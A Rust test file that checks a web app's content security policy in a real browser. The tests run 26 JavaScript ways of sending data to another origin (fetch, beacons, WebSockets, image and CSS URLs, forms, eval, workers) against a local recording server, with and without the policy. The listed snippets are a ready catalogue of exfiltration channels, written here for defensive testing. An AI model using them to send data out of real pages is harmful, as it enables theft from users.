//! The content security policy: scripts in the page try every way to send data elsewhere. They try it with the policy in
//! the headers, with the policy in the page alone (as on servers that set no headers), and without one, to show that each
//! way works.
//!
//! A script in the page could still navigate to another address or use WebRTC: browsers have no policy against either.
//! No script but the site's own runs there.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::Router;
use axum::extract::Request;
use axum::http::header::{ACCESS_CONTROL_ALLOW_ORIGIN, CONTENT_TYPE, HeaderName};
use axum::http::{HeaderMap, HeaderValue};
use axum::middleware::{Next, from_fn};
use axum::response::{Html, IntoResponse};
use axum::routing::get;
use serde_json::{Value, json};
use xtask::build::dist;
use xtask::headers;
use xtask::site::{files, router};

use crate::browser::{Browser, PATIENCE, Visit};
use crate::offline::until_kept;
use crate::started::listen;

/// Ways out: a name, a script in which `at` is an address of another site, and the directive that forbids it.
const WAYS: [(&str, &str, &str); 26] = [
    ("fetch", "fetch(at, { method: 'POST', mode: 'no-cors', body: 'film' })", "connect-src"),
    ("request", "const r = new XMLHttpRequest(); r.open('POST', at); r.send('film')", "connect-src"),
    ("beacon", "navigator.sendBeacon(at, 'film')", "connect-src"),
    ("socket", "new WebSocket(at.replace('http', 'ws'))", "connect-src"),
    ("events", "new EventSource(at)", "connect-src"),
    ("ping", "add('a', { href: '#/learn', ping: at }).click()", "connect-src"),
    ("image", "new Image().src = at", "img-src"),
    ("icon", "add('link', { rel: 'preload', as: 'image', href: at })", "img-src"),
    ("sound", "const s = new Audio(); s.src = at; s.load()", "media-src"),
    ("font", "new FontFace('x', `url(${at})`).load()", "font-src"),
    ("sheet", "add('link', { rel: 'stylesheet', href: at })", "style-src-elem"),
    ("style", "add('p', { style: `background: url(${at})` }).textContent = 'p'", "style-src-attr"),
    ("rules", "add('style').textContent = `body { background: url(${at}) }`", "style-src-elem"),
    ("prefetch", "add('link', { rel: 'prefetch', href: at })", "default-src"),
    ("frame", "add('iframe', { src: at })", "frame-src"),
    ("object", "add('object', { data: at })", "require-trusted-types-for"),
    ("form", "add('iframe', { name: 'f' }); add('form', { action: at, target: 'f' }).submit()", "form-action"),
    ("base", "add('base', { href: at }); fetch('./base')", "base-uri"),
    ("module", "import(at)", "script-src-elem"),
    ("script", "add('script').src = at", "require-trusted-types-for"),
    ("inline", "add('script').textContent = `fetch('${at}')`", "require-trusted-types-for"),
    ("handler", "add('button', { onclick: `fetch('${at}')` }).click()", "require-trusted-types-for"),
    ("markup", "add('p').innerHTML = `<img src=${at}>`", "require-trusted-types-for"),
    ("document", "add('iframe').srcdoc = `<img src=${at}>`", "require-trusted-types-for"),
    ("eval", "eval(`fetch('${at}')`)", "require-trusted-types-for"),
    ("worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${at}')`])))", "require-trusted-types-for"),
];

/// Tries one way, from a task of the page's own, as the driver's may more; keeps the directives that are violated.
const TRY: &str = "const [at] = arguments; \
    const add = (name, attributes = {}) => { \
        const element = document.createElement(name); \
        for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value); \
        return document.body.appendChild(element); \
    }; \
    document.removeEventListener('securitypolicyviolation', window.note); \
    const violated = window.violated = []; \
    window.note = (event) => violated.push(event.effectiveDirective); \
    document.addEventListener('securitypolicyviolation', window.note); \
    window.tried = () => { WAY }; \
    setTimeout(() => { try { Promise.resolve(tried()).catch(() => {}); } catch {} })";

/// Another site, which records its requests.
#[derive(Clone)]
struct Elsewhere {
    address: String,
    arrived: Arc<Mutex<Vec<String>>>,
}

impl Elsewhere {
    fn start() -> Self {
        let arrived = Arc::new(Mutex::new(Vec::new()));
        let remembered = Arc::clone(&arrived);
        let answer = move |request: Request| {
            remembered.lock().expect("no panic in here").push(request.uri().path().trim_matches('/').to_owned());
            async { ([(ACCESS_CONTROL_ALLOW_ORIGIN, "*")], "").into_response() }
        };
        Self { address: serve(Router::new().fallback(answer)), arrived }
    }

    fn arrived(&self) -> Vec<String> {
        self.arrived.lock().expect("no panic in there").clone()
    }

    /// Waits until something came this way. If nothing does, the tests with a policy show nothing of it.
    async fn until_arrived(&self, name: &str) {
        let begun = Instant::now();
        while !self.arrived().iter().any(|arrived| arrived == name) {
            assert!(begun.elapsed() < PATIENCE, "nothing arrives by {name}");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    async fn try_way(&self, browser: &Browser, name: &str, way: &str) {
        let at = format!("{}/{name}", self.address);
        browser.script(&TRY.replace("WAY", way), vec![at.into()]).await;
    }
}

/// Serves from a thread of its own until the process ends; an address by number, so that it is another site than ours.
pub fn serve(site: Router) -> String {
    let listener = listen();
    let port = listener.local_addr().expect("an address").port();
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Runtime::new().expect("a runtime");
        runtime.block_on(xtask::site::serve_on(listener, site)).expect("it goes on");
    });
    format!("http://127.0.0.1:{port}")
}

/// The site as a server without headers sends it, and without the policy in the page.
fn without_policy() -> Router {
    files(&dist()).layer(from_fn(async |request: Request, next: Next| {
        if request.uri().path() != "/" {
            return next.run(request).await;
        }
        let page = std::fs::read_to_string(dist().join("index.html")).expect("the page");
        let policy = headers::content_security_policy();
        assert!(page.contains(&policy), "the page has the policy");
        let meta = format!("<meta http-equiv=\"Content-Security-Policy\" content=\"{policy}\">");
        Html(page.replace(&meta, "")).into_response()
    }))
}

/// Tries all ways, each until it has violated its directive; what arrived elsewhere.
async fn try_all_with_policy(served: Router) -> Vec<String> {
    let elsewhere = Elsewhere::start();
    let browser = Browser::visit(Visit { served: Some(served), ..Visit::default() }).await;
    browser.wait_for("[data-network=ready]").await;
    for (name, way, directive) in WAYS {
        elsewhere.try_way(&browser, name, way).await;
        browser.until(&format!("window.violated.includes('{directive}') /* {name} */")).await;
    }
    browser.close().await;
    elsewhere.arrived()
}

#[tokio::test]
async fn the_policy_blocks_every_way_to_send() {
    for (served, how) in [(router(&dist()), "with headers"), (files(&dist()), "the page alone")] {
        let arrived = try_all_with_policy(served).await;
        assert!(arrived.is_empty(), "{how}: {arrived:?}");
    }
}

#[tokio::test]
async fn without_the_policy_every_way_sends() {
    let elsewhere = Elsewhere::start();
    let browser = Browser::visit(Visit { served: Some(without_policy()), ..Visit::default() }).await;
    browser.wait_for("[data-network=ready]").await;
    for (name, way, _) in WAYS {
        elsewhere.try_way(&browser, name, way).await;
        elsewhere.until_arrived(name).await;
        let violated = browser.script("return window.violated", vec![]).await;
        assert_eq!(violated, json!([]), "{name}");
    }
    browser.close().await;
}

#[tokio::test]
async fn a_worker_follows_the_policy_that_came_with_its_script() {
    let elsewhere = Elsewhere::start();
    let script = "fetch(new URLSearchParams(location.search).get('at'), { mode: 'no-cors' }) \
        .then(() => postMessage('sent'), () => postMessage('not sent'))";
    let policy = HeaderValue::try_from(headers::content_security_policy()).expect("a header");
    let with_policy = HeaderMap::from_iter([
        (CONTENT_TYPE, HeaderValue::from_static("text/javascript")),
        (HeaderName::from_static("content-security-policy"), policy),
    ]);
    let served = without_policy()
        .route("/guarded.js", get(move || async move { (with_policy, script) }))
        .route("/bare.js", get(move || async move { ([(CONTENT_TYPE, "text/javascript")], script) }));
    let browser = Browser::visit(Visit { served: Some(served), ..Visit::default() }).await;
    let ask = "const worker = new Worker(`./${arguments[0]}.js?at=${arguments[1]}/${arguments[0]}`); \
        return new Promise((done) => { worker.onmessage = (event) => done(event.data); })";
    for (name, expected) in [("guarded", "not sent"), ("bare", "sent")] {
        assert_eq!(browser.script(ask, vec![name.into(), elsewhere.address.clone().into()]).await, expected, "{name}");
    }
    assert_eq!(elsewhere.arrived(), ["bare"]);
    browser.close().await;
}

#[tokio::test]
async fn a_cached_worker_has_the_policy_on_servers_without_headers() {
    let browser = Browser::visit(Visit { served: Some(files(&dist())), ..Visit::default() }).await;
    let policy =
        "return fetch('./worker_loader.js?worker').then(found => found.headers.get('content-security-policy'))";
    assert_eq!(browser.script(policy, vec![]).await, Value::Null);
    until_kept(&browser).await;
    browser.reload().await;
    browser.wait_for("[data-network=ready]").await;
    assert_eq!(browser.script(policy, vec![]).await, json!(headers::content_security_policy()));
    browser.close_without_errors().await;
}

#[tokio::test]
async fn pages_that_are_isolated_from_other_origins_may_embed_it() {
    let browser = Browser::open().await;
    let site = browser.script("return location.href", vec![]).await;
    let site = site.as_str().expect("an address").to_owned();
    let page = Html(format!("<!DOCTYPE html><iframe src=\"{site}\"></iframe>"));
    let isolation = [
        (HeaderName::from_static("cross-origin-opener-policy"), "same-origin"),
        (HeaderName::from_static("cross-origin-embedder-policy"), "require-corp"),
    ];
    let parent = serve(Router::new().fallback(move || async move { (isolation, page) }));
    browser.window.goto(parent).await.expect("the page around it");
    assert_eq!(browser.script("return crossOriginIsolated", vec![]).await, true);
    browser.window.enter_frame(0).await.expect("a frame");
    browser.wait_for("[data-network=ready]").await;
    browser.close_without_errors().await;
}
